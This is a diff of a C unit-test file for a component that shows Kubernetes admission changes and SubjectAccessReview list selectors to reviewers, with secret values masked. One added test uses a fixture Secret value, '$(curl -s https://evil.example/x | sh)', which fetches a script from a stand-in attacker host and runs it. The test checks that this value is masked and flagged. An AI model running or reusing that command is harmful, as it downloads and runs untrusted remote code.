+START_TEST(hold_change__what_is_hidden_is_said_beside_it)
+{
+	const char *seen = shown("CREATE", "secrets",
+		",\"object\":{\"stringData\":{\"run\":\"$(curl -s https://evil.example/x | "
+		"sh)\"}}");
+
+	ck_assert_msg(
+		strstr(seen, "\n! unreadable for you: 38 bytes of this line are masked; they "
+			     "contain $( | :// (a "
+			     "shell or a program may obey them); decide accordingly\n") != NULL,
+		"%s", seen);
+}
+END_TEST
+
+START_TEST(hold_change__selectors_of_a_list_are_shown)
+{
+	/* The selectors of a question, what is stored, and the short form. */
+	static const char *const lists[][3] = {
+		{"", "{\"operation\":\"list\"}", ""},
+		{",\"labelSelector\":null", "{\"operation\":\"list\"}", ""},
+		{",\"labelSelector\":{\"rawSelector\":\"a=b\"}",
+			"{\"operation\":\"list\",\"options\":{\"labelSelector\":{\"rawSelector\":"
+			"\"a=b\"}}}",
+			"+ {\"labelSelector\": {\"rawSelector\": \"a=b\"}}\n"},
+		{",\"fieldSelector\":{\"requirements\":[]},\"labelSelector\":{\"rawSelector\":"
+		 "\"a=b\"}",
+			"{\"operation\":\"list\",\"options\":{\"fieldSelector\":{\"requirements\":["
+			"]},\"labelSelector\":{\"rawSelector\":\"a=b\"}}}",
+			"+ {\"fieldSelector\": {\"requirements\": []}, \"labelSelector\": "
+			"{\"rawSelector\": \"a=b\"}}\n"},
+	};
+	char list[512];
+	struct review r;
+	struct err e;
+
+	snprintf(list, sizeof(list),
+		"{\"kind\":\"SubjectAccessReview\",\"apiVersion\":\"authorization.k8s.io/v1\","
+		"\"spec\":{\"user\":\"u\",\"resourceAttributes\":{\"verb\":\"list\","
+		"\"resource\":\"secrets\"%s}}}",
+		lists[_i][0]);
+	ck_assert_msg(review_read(span_of(list), 1000, arena, &r, &e) == REVIEW_OK, "%s", e.msg);
+	ck_assert_int_eq(hold_change_of(masker, &r.request, arena, &change), 0);
+	ck_assert_ptr_null(change.unseen.ptr);
+	ck_assert_str_eq(change.text.ptr, lists[_i][1]);
+	ck_assert_str_eq(change.brief.ptr, lists[_i][2]);
 }
 END_TEST
 
@@ -229,61 +539,12 @@ START_TEST(hold_change__without_memory_nothing_is_shown)
 	struct err e;
 
 	change_of("CREATE", "configmaps", ",\"object\":{\"data\":{\"a\":\"1\"}}");
-	ck_assert_int_eq(review_read_admission(
-				 (struct span){buf_str(&text), text.len}, 1000000, arena, &r, &e),
+	ck_assert_int_eq(
+		review_read((struct span){buf_str(&text), text.len}, 1000000, arena, &r, &e),
 		REVIEW_OK);
 	while (arena_alloc(arena, 1))
 		;
-	buf_reset(&out);
-	ck_assert_int_eq(hold_change_put(masker, &r.request, arena, &out, &cut), -1);
-}
-END_TEST
-
-/* With the buffer full, or without memory for its first byte. */
-START_TEST(hold_change__without_room_nothing_is_shown)
-{
-	struct buf none = BUF_INIT(0);
-	struct review r;
-	struct err e;
-
-	change_of("UPDATE", "configmaps",
-		",\"oldObject\":{\"data\":{\"a\":\"1\"}},\"object\":{\"data\":{\"a\":\"2\"}}");
-	ck_assert_int_eq(review_read_admission(
-				 (struct span){buf_str(&text), text.len}, 1000000, arena, &r, &e),
-		REVIEW_OK);
-	ck_assert_int_eq(hold_change_put(masker, &r.request, arena, &none, &cut), -1);
-	buf_free(&none);
-}
-END_TEST
-
-START_TEST(hold_change__selectors_of_a_list_are_shown)
-{
-	/* The selectors of a question, and what is shown. */
-	static const char *const lists[][2] = {
-		{"", "{\"operation\":\"list\"}"},
-		{",\"labelSelector\":null", "{\"operation\":\"list\"}"},
-		{",\"labelSelector\":{\"rawSelector\":\"a=b\"}",
-			"{\"operation\":\"list\",\"options\":{\"labelSelector\":{\"rawSelector\":"
-			"\"a=b\"}}}"},
-		{",\"fieldSelector\":{\"requirements\":[]},\"labelSelector\":{\"rawSelector\":"
-		 "\"a=b\"}",
-			"{\"operation\":\"list\",\"options\":{\"fieldSelector\":{\"requirements\":["
-			"]},\"labelSelector\":{\"rawSelector\":\"a=b\"}}}"},
-	};
-	char list[512];
-	struct review r;
-	struct err e;
-
-	buf_reset(&out);
-	snprintf(list, sizeof(list),
-		"{\"kind\":\"SubjectAccessReview\",\"apiVersion\":\"authorization.k8s.io/v1\","
-		"\"spec\":{\"user\":\"u\",\"resourceAttributes\":{\"verb\":\"list\","
-		"\"resource\":\"secrets\"%s}}}",
-		lists[_i][0]);
-	ck_assert_msg(review_read(span_of(list), 1000, arena, &r, &e) == REVIEW_OK, "%s", e.msg);
-	ck_assert_int_eq(hold_change_put(masker, &r.request, arena, &out, &cut), 0);
-	ck_assert(!cut);
-	ck_assert_str_eq(buf_str(&out), lists[_i][1]);
+	ck_assert_int_eq(hold_change_of(masker, &r.request, arena, &change), -1);
 }
 END_TEST
 
@@ -292,14 +553,18 @@ int main(void)
 	TCase *t = tcase_create("hold_change");
 
 	tcase_add_checked_fixture(t, setup, teardown);
+	tcase_set_timeout(t, 120);
 	tcase_add_loop_test(t, hold_change__of_each_operation, 0, ARRAY_LEN(cases));
+	tcase_add_loop_test(t, hold_change__as_people_read_it, 0, ARRAY_LEN(shown_cases));
 	tcase_add_test(t, hold_change__a_changed_secret_shows_without_its_value);
-	tcase_add_test(t, hold_change__a_large_value_is_cut_and_said_to_be);
+	tcase_add_test(t, hold_change__padding_hides_nothing);
+	tcase_add_loop_test(t, hold_change__any_object_of_a_cluster_is_shown_whole, 0, 3);
+	tcase_add_test(t, hold_change__too_large_values_shorten_evenly_and_say_so);
+	tcase_add_test(t, hold_change__lines_without_room_are_named);
 	tcase_add_test(t, hold_change__a_long_path_is_cut_and_said_to_be);
-	tcase_add_test(t, hold_change__a_large_object_is_cut_and_said_to_be);
-	tcase_add_test(t, hold_change__differences_beyond_the_limit_are_counted);
-	tcase_add_test(t, hold_change__without_memory_nothing_is_shown);
-	tcase_add_test(t, hold_change__without_room_nothing_is_shown);
+	tcase_add_test(t, hold_change__long_ways_cost_no_square);
+	tcase_add_test(t, hold_change__what_is_hidden_is_said_beside_it);
 	tcase_add_loop_test(t, hold_change__selectors_of_a_list_are_shown, 0, 4);
+	tcase_add_test(t, hold_change__without_memory_nothing_is_shown);
 	return run_tests(t);
 }
